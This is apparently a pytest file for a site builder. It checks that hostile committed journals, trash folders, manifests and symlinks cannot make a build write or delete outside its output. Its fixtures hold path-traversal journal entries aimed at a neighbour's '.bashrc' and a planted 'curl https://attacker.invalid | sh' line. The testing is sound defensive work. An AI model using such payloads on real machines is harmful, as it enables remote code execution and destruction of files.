"""A checkout cannot steer the build outside its output: recovery journals, trash folders and manifests are
the builder's own records in the user's state folder, and moving files never goes through a symbolic link.

The attack these hold off: a committed `.site.journal.json` made a plain `skillreg build` write `../victim/.bashrc`
and delete `../other-project/`; a committed `.site.trash-*` folder was deleted.
"""

from __future__ import annotations

import json
import os
import sqlite3
import time
from contextlib import closing
from pathlib import Path

import pytest
from helpers.build import SKILLS, all_files, git, leftovers, make_registry, skillreg

from builder.core.config import load_config
from builder.publish.build import BuildOptions
from builder.publish.transaction import JOURNAL_VERSION, output_place

HOSTILE_JOURNAL = {"state": "prepared", "backup": "payload/a", "tmp": "../other-project",
                   "units": [{"path": "../../victim/.bashrc", "had_old": True, "has_new": False}]}


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    """A folder holding a checkout (``repo``) and a neighbour project the checkout must never touch."""
    write_neighbour(tmp_path)
    return tmp_path


def write_neighbour(root: Path) -> None:
    (root / "other-project").mkdir()
    (root / "other-project" / "important.txt").write_text("keep me\n")


def neighbour_intact(root: Path) -> bool:
    return (root / "other-project" / "important.txt").read_text() == "keep me\n"


def build_ok(repo: Path, out: str) -> str:
    done = skillreg(["build", "--out", out, "--no-site"], cwd=repo)
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr
    return done.stdout


def commit_hostile_checkout(repo: Path, out: str, journal: dict) -> None:
    """The hostile checkout: a journal beside --out, the backup it names, and the text to plant."""
    make_registry(repo, SKILLS[:1])
    (repo / f".{out}.journal.json").write_text(json.dumps(journal))
    (repo / "payload/a").mkdir(parents=True)
    (repo / "payload/a/.keep").write_text("")
    (repo / "victim").mkdir()
    (repo / "victim/.bashrc").write_text("curl https://attacker.invalid | sh\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "hostile")


@pytest.mark.parametrize("out", ["site", "public"])
def test_a_committed_journal_is_never_read(workspace: Path, out: str) -> None:
    repo = workspace / "repo"
    commit_hostile_checkout(repo, out, HOSTILE_JOURNAL)
    assert "Built 1 skill into" in build_ok(repo, out)
    md = repo / "skills" / SKILLS[0] / "SKILL.md"
    md.write_text(md.read_text() + "\nAn added line.\n")  # a rebuild goes through the journal's commit path
    build_ok(repo, out)
    assert neighbour_intact(workspace)
    assert not (workspace / "victim").exists()
    assert (repo / "victim/.bashrc").is_file() and (repo / "payload/a/.keep").is_file()
    assert json.loads((repo / f".{out}.journal.json").read_text()) == HOSTILE_JOURNAL  # just a file
    assert (repo / out / "api/v1/index.json").is_file()


def test_a_committed_journal_with_absolute_paths_is_never_read(workspace: Path) -> None:
    repo = workspace / "repo"
    journal = {"state": "prepared", "backup": str(repo / "payload/a"), "tmp": str(workspace / "other-project"),
               "units": [{"path": str(workspace / "victim/.bashrc"), "had_old": True, "has_new": False}]}
    commit_hostile_checkout(repo, "site", journal)
    build_ok(repo, "site")
    assert neighbour_intact(workspace) and not (workspace / "victim").exists()


@pytest.mark.parametrize("name", [".site.trash-123-abc", ".site.trash-4242-0123456789abcdef", ".site.backup-1",
                                  ".site.tmp-1", ".site.old-1"])
def test_committed_folders_named_like_the_builders_own_are_kept(workspace: Path, name: str) -> None:
    repo = make_registry(workspace / "repo", SKILLS[:1])
    (repo / name).mkdir()
    (repo / name / "data.txt").write_text("precious\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "a folder with a builder-like name")
    build_ok(repo, "site")
    md = repo / "skills" / SKILLS[0] / "SKILL.md"
    md.write_text(md.read_text() + "\nAn added line.\n")
    build_ok(repo, "site")
    build_ok(repo, "site")
    assert (repo / name / "data.txt").read_text() == "precious\n"


def _state_journal(repo: Path, out_name: str, **fields: object) -> Path:
    place = output_place(repo / out_name)
    place.state.mkdir(parents=True, exist_ok=True)
    journal = {"version": JOURNAL_VERSION, "out": str(place.base), "state": "prepared",
               "tmp": place.fresh("tmp").name, "backup": place.fresh("backup").name, "units": [], **fields}
    place.journal.write_text(json.dumps(journal))
    return place.journal


@pytest.mark.parametrize("fields", [
    {"tmp": "{workspace}/other-project"},
    {"backup": "../other-project"},
    {"backup": "{workspace}/repo/payload/a"},
    {"units": [{"path": "{workspace}/victim/.bashrc", "had_old": True, "has_new": False}]},
    {"units": [{"path": "../../victim/.bashrc", "had_old": True, "has_new": False}]},
    {"units": [{"path": "api/./../../victim", "had_old": False, "has_new": True}]},
    {"out": "{workspace}/other-project"},
    {"version": None},
], ids=["absolute-tmp", "relative-backup", "absolute-backup", "absolute-unit", "dotdot-unit", "dot-unit",
        "other-output", "no-version"])
def test_a_journal_naming_anything_else_is_refused_without_touching_it(workspace: Path,
                                                                          fields: dict[str, object]) -> None:
    """Even the builder's own journal is checked: it names only folders this machinery makes."""
    repo = make_registry(workspace / "repo", SKILLS[:1])
    build_ok(repo, "site")
    before = all_files(repo / "site")
    text = json.dumps(fields).replace("{workspace}", str(workspace))
    journal = _state_journal(repo, "site", **json.loads(text))
    done = skillreg(["build", "--out", "site", "--no-site"], cwd=repo)
    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    assert done.stderr.startswith(f"Error: {journal}: ") and "nothing was changed" in done.stderr
    assert len(done.stderr.strip().splitlines()) == 1
    assert journal.exists() and neighbour_intact(workspace)
    assert all_files(repo / "site") == before


def test_a_journal_whose_units_pass_through_a_symbolic_link_is_refused(workspace: Path) -> None:
    repo = make_registry(workspace / "repo", SKILLS[:1])
    build_ok(repo, "site")
    outside = workspace / "elsewhere"
    (outside / "v1").mkdir(parents=True)
    (outside / "v1" / "index.json").write_text("not the builder's\n")
    place = output_place(repo / "site")
    backup = place.fresh("backup")
    backup.mkdir()
    (backup / "api").symlink_to(outside)  # restoring the unit would write into `elsewhere`
    journal = _state_journal(repo, "site", backup=backup.name,
                             units=[{"path": "api/v1/index.json", "had_old": True, "has_new": True}])
    done = skillreg(["build", "--out", "site", "--no-site"], cwd=repo)
    assert done.returncode == 1, done.stdout
    assert "symbolic link" in done.stderr and str(backup / "api") in done.stderr
    assert journal.exists()
    assert (outside / "v1" / "index.json").read_text() == "not the builder's\n"


def test_a_symlinked_folder_in_the_output_is_never_moved_through(workspace: Path) -> None:
    """A rebuild moves units such as api/v1/bundles/<name>; a link on the way would move another folder's files."""
    repo = make_registry(workspace / "repo", SKILLS[:1])
    build_ok(repo, "site")
    victim = workspace / "victim-bundles"
    (victim / SKILLS[0]).mkdir(parents=True)
    (victim / SKILLS[0] / "keep.txt").write_text("keep me\n")
    bundles = repo / "site/api/v1/bundles"
    os.rename(bundles, workspace / "moved-bundles")
    bundles.symlink_to(victim)
    md = repo / "skills" / SKILLS[0] / "SKILL.md"
    md.write_text(md.read_text() + "\nAn added line.\n")
    done = skillreg(["build", "--out", "site", "--no-site"], cwd=repo)
    assert done.returncode == 1
    assert done.stderr == ("Error: site/api/v1/bundles is a symbolic link; the build never moves files through one. "
                           "Nothing was changed: remove the link (or all of site) and build again\n")
    assert (victim / SKILLS[0] / "keep.txt").read_text() == "keep me\n"
    assert leftovers(repo, "site") == []


def test_a_committed_manifest_is_never_read(workspace: Path) -> None:
    """The manifest decides which skills are reused and which removed. It used to live in the checkout
    (.skillreg-cache/build-<tag>.json), so a committed one, valid for the output on disk, was believed."""
    from builder.publish.build import build

    repo = make_registry(workspace / "repo", SKILLS[:1])
    config = load_config(repo / "registry.yaml")
    build(config, repo / "site", BuildOptions(site=False))
    place = output_place(repo / "site")
    _copy_skill_row(place.manifest, SKILLS[0], "zz-forged")
    committed = repo / ".skillreg-cache" / f"build-{place.state.name}.sqlite"  # beside the checkout
    committed.parent.mkdir()
    forged = place.manifest.read_bytes()
    committed.write_bytes(forged)
    place.manifest.unlink()  # a runner with a fresh state folder: only the committed copy is left
    result = build(config, repo / "site", BuildOptions(site=False))
    assert (result.written, result.reused, result.removed) == ((SKILLS[0],), (), ())
    assert committed.read_bytes() == forged


def _copy_skill_row(manifest: Path, name: str, as_name: str) -> None:
    """Add a row to the builder's manifest: ``name``'s, under another name."""
    with closing(sqlite3.connect(manifest)) as db, db:
        columns = [row[1] for row in db.execute("PRAGMA table_info(skills)")]
        (row,) = db.execute("SELECT * FROM skills WHERE name = ?", (name,)).fetchall()
        db.execute(f"INSERT INTO skills ({', '.join(columns)}) VALUES ({', '.join('?' * len(columns))})",
                   (as_name, *row[1:]))


def test_the_builders_own_manifest_is_checked_too(workspace: Path) -> None:
    """A skill name in the manifest that is not a plain folder name would make a unit path leave the output:
    such a manifest is not one this builder wrote, and the build starts from scratch."""
    repo = make_registry(workspace / "repo", SKILLS[:1])
    (workspace / "victim").mkdir()
    (workspace / "victim" / "keep.txt").write_text("keep me\n")
    build_ok(repo, "site")
    place = output_place(repo / "site")
    _copy_skill_row(place.manifest, SKILLS[0], "../../../../../victim")
    result = skillreg(["build", "--out", "site", "--no-site", "-v"], cwd=repo)
    assert result.returncode == 0 and f"Written: {SKILLS[0]}" in result.stdout
    assert (workspace / "victim" / "keep.txt").read_text() == "keep me\n"


def test_records_live_in_the_state_folder_and_nothing_is_left_beside_the_output(workspace: Path) -> None:
    repo = make_registry(workspace / "repo", SKILLS[:2])
    for _ in range(3):
        md = repo / "skills" / SKILLS[0] / "SKILL.md"
        md.write_text(md.read_text() + "\nAn added line.\n")
        build_ok(repo, "site")
    state = Path(os.environ["SKILLREG_STATE_DIR"])
    place = output_place(repo / "site")
    assert place.state.is_relative_to(state)
    assert sorted(p.name for p in place.state.iterdir()) == ["bundles", "current.json", "history.json", "lock",
                                                             "manifest.sqlite", "provenance.json",
                                                             "publish-sizes.json", "trash"]  # ours
    deadline = time.monotonic() + 20  # replaced trees are deleted by a detached process
    while (leftovers(repo, "site") or any(place.trash_records.iterdir())) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert leftovers(repo, "site") == [] and list(place.trash_records.iterdir()) == []
    assert sorted(p.name for p in repo.iterdir()) == [".git", "registry.yaml", "site", "skills"]
    fresh = workspace / "fresh"
    from builder.publish.build import build
    build(load_config(repo / "registry.yaml"), fresh, BuildOptions(site=False))
    assert all_files(repo / "site") == all_files(fresh)
